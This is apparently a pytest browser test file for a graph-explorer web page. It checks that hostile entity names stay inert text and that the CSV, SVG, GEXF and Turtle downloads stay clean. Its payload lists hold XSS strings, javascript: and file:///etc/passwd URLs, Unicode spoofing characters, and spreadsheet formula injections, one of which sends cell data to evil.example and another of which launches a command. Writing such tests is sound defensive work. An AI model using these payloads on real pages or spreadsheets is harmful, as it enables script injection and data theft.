"""The interactive page with names that mean harm: shown as words and nothing else; what it saves is sound."""

import csv
import json
import re
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from browser import SIZES, Opened, opened
from pyoxigraph import Literal, NamedNode, RdfFormat, parse
from small_page import CLAIMS, Mistake, linked_home, small_page, with_mistake

from build_graph import build
from graph.explorer.html import render
from graph.explorer.layout.initial import select_initial
from graph.explorer.network import draw, vis_network_source

pytestmark = pytest.mark.browser

# One picture of three, which a letter that is not seen joins.
FAMILY = "👩\u200d👩\u200d👧"
LONG = "forebyggingskoordinator" * 500
NAMES = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "javascript:alert(5)",
    "\u202egro.live//:sptth\u202c Ola",
    "\u2066skjult\u2069\u200fm",
    "nu\u200bll\u200d bre\u2060dde\ufeff",
    LONG,
    "to\u2028linjer\u2029her",
    '=HYPERLINK("http://evil.example/?"&A1;"se her")',
    "+47 22 24 90 90",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r\n=1+1",
    "' onmouseover='alert(6)",
    "{{constructor.constructor('alert(7)')()}}",
    "&lt;b&gt; &#x3c;script&#x3e;",
    "]]><!-- --> <![CDATA[",
    "C:\\bok\\fil \\u0041 \\",
    'tre """ anførselstegn og \x00\x07\x1b tegn uten form',
    "\ufffe\uffff\ufdd0\U000e0041\u061c usynlig",
    "__proto__",
    "constructor",
    f"𝕸øtegraf {FAMILY}",
    "e" + "\u0301" * 300,
]
ADDRESSES = [
    *("javascript:alert(8)", "JaVaScRiPt:alert(9)", "data:text/html,<script>alert(10)</script>", "file:///etc/passwd"),
    *("vbscript:msgbox(1)", "//evil.example/x", "https://example.org/<>\"'", "java\nscript:alert(11)"),
]
# What no text of the page may hold: it turns or hides the letters around it.
UNSEEN = re.compile(
    "[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufffe\uffff]"
)
STATES = [
    "#",
    "#sel={person}",
    "#sel={tie}&view=table",
    "#view=timeline&sel={event}",
    "#view=map&sel={event}",
    "#around={person}&rings=2",
    "#path=person:joran-kallmyr&to={person}",
    "#view=questions&question=who_was_at_the_same_event",
    "#view=questions&question=who_held_which_office",
    "#view=questions&question=which_events_are_in_which_county",
    "#view=questions&question=which_topics_go_together",
    "#view=questions&question=where_does_it_say_so_of_an_actor",
]
NAMED = {
    "person": "person:laila-bokhari",
    "event": "event:sarpsborg-2014-10",
    "tie": "participation:sarpsborg-2014-10.laila-bokhari",
}


def payload_of(built: Path) -> dict[str, Any]:
    text = (built / "explorer.html").read_text(encoding="utf-8")
    found: dict[str, Any] = json.loads(re.findall(r'id="data">(.*?)</script>', text, re.DOTALL)[0])
    return found


def harmful(data: dict[str, Any]) -> dict[str, Any]:
    """The same graph; every name, address and word in it means harm."""
    number = 0

    def next_name() -> str:
        nonlocal number
        number += 1
        return NAMES[number % len(NAMES)]

    for entity in data["entities"]:
        name = next_name()
        entity |= {
            "label": {"nb": name, "en": f"{name} (en)"},
            "also": [next_name(), next_name()],
            "elsewhere": ADDRESSES,
        }
        entity["saidWhen"] = [next_name()]
    data["entities"][0]["iri"] = "javascript:alert(12)"
    for words in data["words"].values():
        words |= {"label": {"nb": next_name(), "en": next_name()}}
    for membership in data["memberships"].values():
        membership |= {"label": {"nb": next_name()}, "sources": [next_name(), *ADDRESSES]}
    for at, source in enumerate(data["sources"].values()):
        source |= {"title": next_name(), "address": ADDRESSES[at], "text": "".join(NAMES) + source["text"]}
    for claim in data["claims"].values():
        for passage in claim["keyEvidence"]:
            passage["words"] = next_name()
    for question in data["questions"]:
        for row in question["rows"]:
            row[:] = [[next_name(), cell[1]] if isinstance(cell, list) else _harmed(cell, next_name) for cell in row]
    return data | {"drawing": draw(select_initial(data["entities"], data["ties"]), data["ties"])}


def _harmed(cell: str, next_name: Any) -> str:
    return (
        cell
        if re.fullmatch(r"[\d-]*|certain|possible", cell)
        else ADDRESSES[0]
        if cell.startswith("http")
        else next_name()
    )


@pytest.fixture(scope="module")
def data(built: Path) -> dict[str, Any]:
    return harmful(payload_of(built))


@pytest.fixture(scope="module")
def file(data: dict[str, Any], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of that graph."""
    file = tmp_path_factory.mktemp("hostile") / "explorer.html"
    file.write_bytes(render(data, vis_network_source()))
    return file


def look_about(here: Opened) -> None:
    """Points at everything that is drawn, and opens what can be opened."""
    corner = here.page.locator("#canvas").bounding_box()
    if corner:
        for box in here.drawn()["signs"][:12]:
            here.page.mouse.move(corner["x"] + box["x"] + box["w"] / 2, corner["y"] + box["y"] + box["h"] / 2)
    here.page.evaluate("for (const one of document.querySelectorAll('aside details')) one.open = true")
    here.settle()


@pytest.mark.parametrize(("language", "size"), [("nb", "wide"), ("en", "narrow")])
def test_hostile_names_run_nothing_and_keep_the_layout(browser: Any, file: Path, size: str, language: str) -> None:
    with opened(browser, file, *SIZES[size]) as here:
        for state in STATES:
            here.go(f"{state.format(**NAMED)}&lang={language}".replace("#&", "#"))
            look_about(here)
            assert here.page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0, state
            assert UNSEEN.findall(here.page.locator("body").inner_text().replace(FAMILY, "")) == [], state
            links = set(here.page.eval_on_selector_all("a", "all => all.map(one => one.protocol)"))
            assert links <= {"http:", "https:", "mailto:", "file:"}, state
            elsewhere = here.page.eval_on_selector_all(
                "a[href^='file']", "all => all.map(one => one.getAttribute('href'))"
            )
            assert set(elsewhere) <= {"#"}, state
            made = here.page.eval_on_selector_all(
                "body script, iframe, object, embed, img, [onerror], [onload]", "all => all.length"
            )
            # Those that the file has itself: what is in a name stands escaped or packed in it.
            assert made == file.read_bytes().count(b"<script"), state


def test_hostile_name_is_searchable_as_text(browser: Any, file: Path) -> None:
    with opened(browser, file) as here:
        here.page.locator("#search").fill("script alert 1")
        hit = here.page.locator("#results [role=option]").first
        assert "<script>alert(1)</script>" in hit.inner_text()
        here.page.keyboard.press("Enter")
        here.settle()
        assert here.page.locator("#proof h2.title").inner_text() in NAMES


def saved(here: Opened, name: str, folder: Path) -> Path:
    with here.page.expect_download() as download:
        here.page.locator(f"#export-{name}").click()
    file = folder / str(download.value.suggested_filename)
    download.value.save_as(file)
    return file


def seen(name: str) -> str:
    """A name as it may be shown."""
    parts = re.sub("[\u2028\u2029]", " ", name).split(FAMILY)
    return FAMILY.join(re.sub("[\U000e0041\ufdd0]", "", UNSEEN.sub("", part)) for part in parts)


def test_downloads_of_hostile_names_are_well_formed(
    browser: Any, file: Path, data: dict[str, Any], tmp_path: Path
) -> None:
    with opened(browser, file) as here:
        here.go("#around=person:laila-bokhari&rings=2")
        shown = set(here.drawn()["entities"])
        files = {name: saved(here, name, tmp_path) for name in ("csv", "svg", "gexf", "turtle")}
    entities = [entity for entity in data["entities"] if entity["id"] in shown]
    with files["csv"].open(encoding="utf-8-sig", newline="") as stream:
        head, *rows = csv.reader(stream, delimiter=";")
    assert {len(row) for row in rows} == {len(head)}
    assert [cell for row in rows for cell in row if re.match(r"\s*[=+\-@\t\r]", cell)] == []
    drawn = ElementTree.parse(files["svg"])
    assert {element.tag.rpartition("}")[2] for element in drawn.iter()} == {
        "svg",
        "title",
        "desc",
        "rect",
        "path",
        "text",
    }
    nodes = {
        node.get("id"): node.get("label") for node in ElementTree.parse(files["gexf"]).iter("{http://gexf.net/1.3}node")
    }
    # White space in an attribute is read as a space.
    assert nodes == {entity["iri"]: re.sub("[\t\n]", " ", seen(entity["label"]["nb"])) for entity in entities}
    label = NamedNode("http://www.w3.org/2000/01/rdf-schema#label")
    labels = {
        (quad.subject, quad.object)
        for quad in parse(path=files["turtle"], format=RdfFormat.TURTLE)
        if quad.predicate == label
    }
    assert labels == {
        (NamedNode(entity["iri"]), Literal(words, language=language))
        for entity in entities
        for language, words in entity["label"].items()
    }


def test_csv_of_answer_has_no_formulas(browser: Any, file: Path, tmp_path: Path) -> None:
    with opened(browser, file) as here:
        here.go("#view=questions&question=where_does_it_say_so_of_an_actor")
        with here.page.expect_download() as download:
            here.page.locator("details[open] button", has_text="CSV").click()
        download.value.save_as(tmp_path / "answer.csv")
    with (tmp_path / "answer.csv").open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream, delimiter=";") for cell in row]
    assert [cell for cell in cells if re.match(r"\s*[=+\-@\t\r]", cell)] == []
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)


@pytest.mark.parametrize(
    "name", ["<script>alert(1)</script>", "</script><img src=x onerror=alert(2)>", "=1+1", LONG[:5000]]
)
def test_source_with_hostile_name_builds_and_renders(browser: Any, tmp_path: Path, name: str) -> None:
    home = linked_home(tmp_path)
    old, new = "label: {nb: Møte i Stavanger, en: Meeting in Stavanger}", f"label: {{nb: {json.dumps(name)}, en: x}}"
    small_page(home, with_mistake(CLAIMS, Mistake(old, new, ())))
    build(home, tmp_path / "built")
    with opened(browser, tmp_path / "built/explorer.html") as here:
        here.go("#view=table&sel=event:mote-i-stavanger")
        shown = here.page.locator("#proof h2.title").inner_text()
        assert shown == (name if len(name) <= 400 else f"{name[:400]}…")
